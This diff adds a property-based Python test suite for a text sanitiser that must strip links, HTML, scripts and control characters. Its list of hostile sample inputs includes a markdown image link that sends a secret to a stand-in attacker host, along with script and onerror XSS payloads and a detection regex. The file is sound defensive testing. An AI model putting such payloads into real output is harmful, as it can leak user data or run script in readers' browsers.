@@ -1,0 +1,79 @@
+"""Whatever stands in a text, nothing of it acts."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from generator.safety import neutralise, without_controls
+
+ATTACKS = (
+    "![x](https://evil.example/?q=secret)",
+    "[click](http://evil.example)",
+    "[ref]: http://evil.example\n[a][ref]",
+    "<img src=x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    "&lt;img src=x&gt;",
+    "&amp;lt;b&amp;gt;",
+    "<https://evil.example>",
+    "www.evil.example",
+    "//evil.example/x",
+    "javascript:alert(1)",
+    "me@evil.example",
+    "evil.com/a?b=c",
+    "[1](x)",
+    "[99]",
+    "\u301099\u3011",
+    "\u202e\u200b\x00\x1b[31m",
+)
+FORBIDDEN = re.compile(
+    r"[\[\]\u3010\u3011]|<[a-zA-Z/!?]|://|\bwww\.|javascript:|mailto:|[\x00-\x1f\u200b\u202e]|@\w+\.\w"
+)
+
+hostile = st.lists(
+    st.sampled_from(ATTACKS) | st.text(max_size=12) | st.sampled_from("<>[]()!&;:/.#x "), max_size=8
+).map("".join)
+
+
+@given(hostile)
+@example("".join(ATTACKS))
+@settings(max_examples=300, deadline=None)
+def test_nothing_that_acts_is_left(text: str) -> None:
+    assert FORBIDDEN.search(neutralise(text)) is None
+
+
+@given(hostile)
+@settings(max_examples=200, deadline=None)
+def test_twice_is_once(text: str) -> None:
+    assert neutralise(neutralise(text)) == neutralise(text)
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_each_attack(attack: str) -> None:
+    assert FORBIDDEN.search(neutralise(f"before {attack} after")) is None
+
+
+def test_the_words_of_a_link_stay() -> None:
+    assert neutralise("see [the report](http://evil.example) now") == "see the report now"
+    assert neutralise("see https://evil.example/x now") == "see (link removed) now"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "\u201charbour.pdf\u201d, page 2.",
+        "3 < 5 and 7 > 2",
+        "60 km/h, e.g. and/or",
+        "A & B: 1,204 (x)",
+        "Caf\u00e9 \u6e2f",
+    ],
+)
+def test_plain_text_is_left_alone(text: str) -> None:
+    assert neutralise(text) == text
+
+
+def test_controls_go_and_lines_stay() -> None:
+    assert without_controls("a\x00b\u202ec\nd") == "abc\nd"
